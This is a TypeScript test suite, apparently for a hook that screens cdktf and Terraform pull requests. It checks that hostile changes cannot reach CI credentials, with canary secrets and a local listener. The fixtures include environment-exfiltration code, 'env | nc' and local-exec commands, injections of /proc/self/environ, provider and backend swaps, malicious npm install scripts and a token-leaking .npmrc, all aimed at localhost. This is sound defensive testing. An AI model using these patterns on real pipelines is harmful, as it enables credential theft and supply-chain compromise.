import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Ended } from "../../support/cli";
import { git } from "../../support/git";
import { Listener } from "../../support/listener";
import { PullRequests, type PullRequest } from "../../support/pull-request";

/** What the server has and nobody else: it must be nowhere afterwards. */
const CANARY = "canary-7c41f0d2a9";
const credentials = {
  AWS_ACCESS_KEY_ID: `${CANARY}-id`,
  AWS_SECRET_ACCESS_KEY: CANARY,
  ATLANTIS_GH_TOKEN: CANARY,
};

jest.setTimeout(300_000);

let pulls: PullRequests;
let listener: Listener;
let ofMain: Map<string, string>;
beforeAll(async () => {
  pulls = PullRequests.create();
  listener = await Listener.start();
  const { pull, hook } = await play("nothing", (folder) =>
    writeFileSync(join(folder, "README.md"), "more\n"),
  );
  expect(hook).toMatchObject({ code: 0, codes: [] });
  ofMain = pull.laidOut();
});
beforeEach(() => listener.forget());
afterAll(async () => {
  await listener.stop();
  pulls.remove();
});

const inFile = (folder: string, file: string, change: (text: string) => string) => {
  const before = readFileSync(join(folder, file), "utf8");
  const after = change(before);
  expect(after).not.toBe(before);
  writeFileSync(join(folder, file), after);
};

/** A change of the app: runs right before it is written. */
const beforeSynth = (code: string) => (folder: string) =>
  inFile(folder, "main.ts", (text) =>
    text.replace(
      "  app.synth();",
      () => `  const stack: any = app.node.findChild("development-network");\n${code}\n  app.synth();`,
    ),
  );

/** A change of the code itself, after the app has written it: what cdktf would not write. */
const afterSynth = (code: string) => (folder: string) =>
  inFile(folder, "main.ts", (text) =>
    text.replace(
      "  app.synth();",
      () => `  app.synth();
  const fs = require("node:fs");
  const file = "cdktf.out/stacks/development-network/cdk.tf.json";
  const code = JSON.parse(fs.readFileSync(file, "utf8"));
  ${code}
  fs.writeFileSync(file, JSON.stringify(code, undefined, 2));`,
    ),
  );

const environmentFile = (change: (text: string) => string) => (folder: string) =>
  inFile(folder, "environments/development.yaml", change);

/** Sends all that a program's environment has to the listener, and waits until it is there. */
const steal = () =>
  `require("node:child_process").execFileSync(process.execPath, ["-e", "require('node:net').connect(${listener.port},'127.0.0.1').end(JSON.stringify(process.env))"]);`;

/** What a hook that runs nothing of the pull request leaves: nothing was sent, and the canary is nowhere. */
async function hookOf(pull: PullRequest): Promise<Ended & { readonly codes: readonly string[] }> {
  const before = listener.connections;
  const ended = await pull.hook(credentials);
  expect(listener.connections).toBe(before);
  const bundle = join(pulls.store, `${pull.commit}.json`);
  const seen = [
    ...[ended.stdout, ended.stderr, listener.heard, readFileSync(bundle, "utf8")],
    ...pull.laidOut().values(),
    git(pull.clone, "status", "--porcelain", "--ignored"),
  ].join("\n");
  expect(seen).not.toContain(CANARY);
  expect(ended.stdout.length + ended.stderr.length).toBeLessThan(64 * 1024);
  // Atlantis shows what a hook says between fences.
  expect(ended.stdout + ended.stderr).not.toContain("```");
  const { errors } = JSON.parse(ended.stdout) as { errors: { code: string }[] };
  return { ...ended, codes: errors.map(({ code }) => code) };
}

/** Plays a pull request up to the hook. */
async function play(name: string, change: (folder: string) => void) {
  const pull = pulls.open(name, change);
  await pull.buildAndSynthesize();
  expect(await pull.publish()).toMatchObject({ code: 0 });
  return { pull, hook: await hookOf(pull) };
}

describe("a hostile change", () => {
  test("that looks for credentials gets none: neither where it runs nor where it is fetched", async () => {
    const { pull, hook } = await play("environment", (folder) =>
      beforeSynth(`${steal()}
  stack.addOverride("output.stolen.value", process.env.AWS_SECRET_ACCESS_KEY ?? "nothing");`)(folder),
    );
    expect(hook).toMatchObject({ code: 0, codes: [] });
    expect(listener.heard).toContain('"PATH"');
    expect(pull.laidOut().get("development-network")).toContain('"stolen": {\n      "value": "nothing"');
  });

  test("would be seen to get them if the synth job had them", async () => {
    const pull = pulls.open("control", (folder) => beforeSynth(steal())(folder));
    await pull.buildAndSynthesize(credentials);
    expect(listener.heard).toContain(CANARY);
  });

  test.each([
    [
      "local-exec",
      () =>
        beforeSynth(
          `stack.addOverride("resource.terraform_data.it.provisioner", [{ "local-exec": { command: "nc 127.0.0.1 ${listener.port}" } }]);`,
        ),
      ["code-provisioners"],
    ],
    [
      "external-data",
      () =>
        beforeSynth(
          `stack.addOverride("data.external.it.program", ["sh", "-c", "env | nc 127.0.0.1 ${listener.port}"]);`,
        ),
      ["code-providers", "code-data-sources"],
    ],
    [
      "module-from-the-network",
      () =>
        beforeSynth(`stack.addOverride("module.it.source", "http://127.0.0.1:${listener.port}/module.zip");`),
      ["code-sections"],
    ],
    [
      "provider-swap",
      () =>
        beforeSynth(
          `stack.addOverride("terraform.required_providers.aws.source", "127.0.0.1:${listener.port}/hashicorp/aws");`,
        ),
      ["code-providers"],
    ],
    [
      "backend-swap",
      () =>
        beforeSynth(`stack.addOverride("terraform.backend.s3.endpoints", { s3: "http://127.0.0.1:${listener.port}" });
  stack.addOverride("terraform.backend.s3.bucket", "somebody-elses");`),
      ["code-backend", "code-backend"],
    ],
    [
      "template-injection-in-names",
      () =>
        afterSynth(
          'code.output["${file(\\"/proc/self/environ\\")}"] = { value: 1 };\n' +
            '  code.output["```\\n<!-- @everyone -->"] = { value: 1 };',
        ),
      ["code-names", "code-names", "code-names", "code-expressions"],
    ],
    [
      "huge-output",
      () => beforeSynth('stack.addOverride("output.huge.value", "x".repeat(9 * 1024 * 1024));'),
      ["code-json"],
    ],
    [
      "huge-output-of-many",
      () =>
        beforeSynth(
          'for (let i = 0; i < 9000; i++) stack.addOverride(`resource.null_resource.r${i}`, { "//": "`".repeat(99) });',
        ),
      [...Array.from({ length: 100 }, () => "code-providers"), "code-more"],
    ],
    [
      "zero-width-characters",
      () =>
        beforeSynth('stack.addOverride("resource.aws_s3_bucket.it.bucket", "state\\u200b-of-production");'),
      ["code-names"],
    ],
    [
      "a-file-of-the-server",
      () => beforeSynth('stack.addOverride("output.it.value", \'${file("/proc/self/environ")}\');'),
      ["code-expressions"],
    ],
  ])("is refused, and none of it laid out: %s", async (name, change, codes) => {
    const { pull, hook } = await play(name, change());
    expect(hook).toMatchObject({ code: 4, codes });
    expect(pull.laidOut().size).toBe(0);
  });

  test("is refused by its own synth job when it is too large for a bundle", async () => {
    const pull = pulls.open(
      "too-large",
      beforeSynth('stack.addOverride("output.huge.value", "x".repeat(33 * 1024 * 1024));'),
    );
    await pull.buildAndSynthesize();
    expect(await pull.publish()).toMatchObject({
      code: 2,
      stderr: expect.stringContaining("bytes together"),
    });
  });

  test("is refused when it poisons a lock file where Terraform's code lies", async () => {
    const { pull, hook } = await play("lock-file", (folder) => {
      const lock = "cdktf.out/stacks/development-network/.terraform.lock.hcl";
      mkdirSync(join(folder, lock, ".."), { recursive: true });
      writeFileSync(
        join(folder, lock),
        'provider "registry.terraform.io/hashicorp/aws" { hashes = ["h1:evil"] }\n',
      );
      git(folder, "add", "--force", lock);
    });
    expect(hook).toMatchObject({
      code: 4,
      codes: ["refused"],
      stderr: expect.stringContaining(".terraform.lock.hcl"),
    });
    // What the commit brought lies there, and no code beside it.
    expect(readdirSync(join(pull.clone, "cdktf.out", "stacks"))).toEqual(["development-network"]);
    expect(readdirSync(join(pull.clone, "cdktf.out", "stacks", "development-network"))).toEqual([
      ".terraform.lock.hcl",
    ]);
  });

  describe("of npm", () => {
    /** A repository of real npm whose app writes the one stack that is given. */
    const project = (folder: string, more: Record<string, string>) => {
      const code = ofMain.get("development-network");
      const files: Record<string, string> = {
        "package.json": JSON.stringify({
          name: "app",
          version: "1.0.0",
          scripts: Object.fromEntries(
            ["preinstall", "install", "postinstall", "prepare"].map((name) => [name, `node evil.js ${name}`]),
          ),
          dependencies: { dependency: "file:dependency" },
        }),
        "package-lock.json": JSON.stringify({
          name: "app",
          version: "1.0.0",
          lockfileVersion: 3,
          packages: {
            "": { name: "app", version: "1.0.0", dependencies: { dependency: "file:dependency" } },
            dependency: { version: "1.0.0", hasInstallScript: true },
            "node_modules/dependency": { resolved: "dependency", link: true },
          },
        }),
        "dependency/package.json": JSON.stringify({
          name: "dependency",
          version: "1.0.0",
          scripts: { postinstall: "node ../evil.js dependency" },
        }),
        "evil.js": `require("node:fs").appendFileSync("${folder}/ran", (process.argv[2] ?? "") + "\\n"); ${steal()}`,
        "app.js": `
const fs = require("node:fs");
fs.mkdirSync("cdktf.out/stacks/development-network", { recursive: true });
fs.writeFileSync("cdktf.out/stacks/development-network/cdk.tf.json", ${JSON.stringify(code)});
fs.writeFileSync("cdktf.out/manifest.json", JSON.stringify({ stacks: { "development-network": { synthesizedStackPath: "stacks/development-network/cdk.tf.json", dependencies: [] } } }));`,
        ".gitignore": "node_modules/\ncdktf.out/\nran\n",
        ...more,
      };
      for (const [file, text] of Object.entries(files)) {
        mkdirSync(join(folder, file, ".."), { recursive: true });
        writeFileSync(join(folder, file), text);
      }
    };
    const ran = (pull: PullRequest) => readdirSync(pull.checkout).includes("ran");
    const install = (pull: PullRequest, ...args: string[]) =>
      pull.job("npm", ["ci", "--no-audit", "--no-fund", "--offline", ...args]);

    test("that runs scripts at an install runs none, neither where it is installed nor where it is fetched", async () => {
      const pull = pulls.open("postinstall", (folder) => project(folder, {}));
      await install(pull, "--ignore-scripts");
      expect(ran(pull)).toBe(false);
      await pull.job(process.execPath, ["app.js"]);
      expect(await pull.publish()).toMatchObject({ code: 0 });
      expect(await hookOf(pull)).toMatchObject({ code: 0, codes: [] });
      expect(listener.connections).toBe(0);
      // The scripts are real: without the option they run.
      await install(pull);
      expect(ran(pull)).toBe(true);
      expect(listener.connections).toBeGreaterThan(0);
    });

    test("that brings npm's settings reaches its registry with no credential, and the hook never starts npm", async () => {
      const pull = pulls.open("npmrc", (folder) =>
        project(folder, {
          ".npmrc": [
            "ignore-scripts=false",
            `registry=http://127.0.0.1:${listener.port}/`,
            `//127.0.0.1:${listener.port}/:_authToken=\${AWS_SECRET_ACCESS_KEY}`,
            "node-options=--require ./evil.js",
            "git=./evil.js",
            "script-shell=./evil.js",
            "",
          ].join("\n"),
        }),
      );
      // With the audit that npm does by itself: it asks the registry that the settings name.
      await pull
        .job("npm", ["ci", "--ignore-scripts", "--no-fund", "--fetch-retries=0"])
        .catch(() => undefined);
      expect(listener.connections).toBeGreaterThan(0);
      expect(ran(pull)).toBe(false);
      await pull.job(process.execPath, ["app.js"]);
      expect(await pull.publish()).toMatchObject({ code: 0 });
      expect(await hookOf(pull)).toMatchObject({ code: 0, codes: [] });
    });
  });
});

describe("a benign change passes unflagged", () => {
  const after = (anchor: string, more: string) =>
    environmentFile((text) => text.replace(anchor, `${anchor}${more}`));

  test.each<readonly [string, (folder: string) => void, readonly string[]]>([
    [
      "a new worker group",
      after(
        "    workers:\n",
        "      batch: { scaling: { fixed: 2 }, instanceTypes: [m7i.large], image: { ssm: /skyline/images/worker/latest } }\n",
      ),
      ["development-cluster-alpha"],
    ],
    [
      "a new cluster",
      environmentFile((text) => {
        const bravo = text.slice(text.indexOf("  bravo:"));
        return `${text}${bravo.replace("  bravo:", "  charlie:")}`;
      }),
      ["development-cluster-charlie", "development-platform-charlie"],
    ],
    [
      "a new tag",
      beforeSynth(
        'stack.node.findAll().find((it: any) => it.terraformResourceType === "aws_vpc").addOverride("tags.cost-centre", "4711");',
      ),
      ["development-network"],
    ],
    [
      "a bucket of the team's own, with encryption",
      beforeSynth(`stack.addOverride("resource.aws_s3_bucket.logs", { bucket: "example-logs", tags: { "skyline:environment": "development" } });
  stack.addOverride("resource.aws_s3_bucket_server_side_encryption_configuration.logs", {
    bucket: "\${aws_s3_bucket.logs.id}",
    rule: [{ apply_server_side_encryption_by_default: { sse_algorithm: "aws:kms" } }],
  });`),
      ["development-network"],
    ],
    [
      "a new data source of the list",
      beforeSynth(`stack.addOverride("data.aws_ssm_parameter.active", { name: "/skyline/development/active" });
  stack.addOverride("output.active.value", "\${data.aws_ssm_parameter.active.insecure_value}");`),
      ["development-network"],
    ],
    [
      "a renamed output",
      (folder) =>
        inFile(folder, "stacks/network-stack.ts", (text) => text.replaceAll("private_zone_id", "zone_id")),
      ["development-network"],
    ],
    [
      "a version upgrade",
      environmentFile((text) => text.replace("kubernetes: 1.35.4", "kubernetes: 1.35.5")),
      ["development-cluster-alpha", "development-platform-alpha"],
    ],
    [
      "a cluster that retires",
      environmentFile((text) => text.replace("role: passive", "role: retiring")),
      ["development-cluster-bravo"],
    ],
    [
      "a new Mesos service",
      environmentFile((text) =>
        text.replace("mesosServices: [organization]", "mesosServices: [organization, payments]"),
      ),
      ["development-platform-alpha", "development-platform-bravo"],
    ],
    [
      "a text that mentions functions, provisioners and modules",
      beforeSynth(
        `stack.addOverride("output.notes", { value: "x", description: ${JSON.stringify(`
        How nodes start: file("/etc/skyline/node.env"), a provisioner, then module.x.
        echo "$\${file}" && templatefile(a, b) # external data
      `)} });`,
      ),
      ["development-network"],
    ],
    [
      "letters of other scripts in a description",
      beforeSynth(
        'stack.addOverride("output.vpc_id.description", "Netz für Zürich, ネットワーク, сеть, café");',
      ),
      ["development-network"],
    ],
    [
      "a larger volume",
      environmentFile((text) => text.replace("volumeGiB: 20", "volumeGiB: 80")),
      ["development-cluster-alpha"],
    ],
  ])("%s", async (what, change, expected) => {
    const { pull, hook } = await play(what.replaceAll(/\W+/g, "-"), change);
    expect(hook).toMatchObject({ code: 0, codes: [], stderr: "" });
    const laidOut = pull.laidOut();
    const changed = [...laidOut].filter(([name, code]) => code !== ofMain.get(name)).map(([name]) => name);
    expect(changed.sort()).toEqual(expect.arrayContaining([...expected]));
    expect(listener.connections).toBe(0);
  });
});
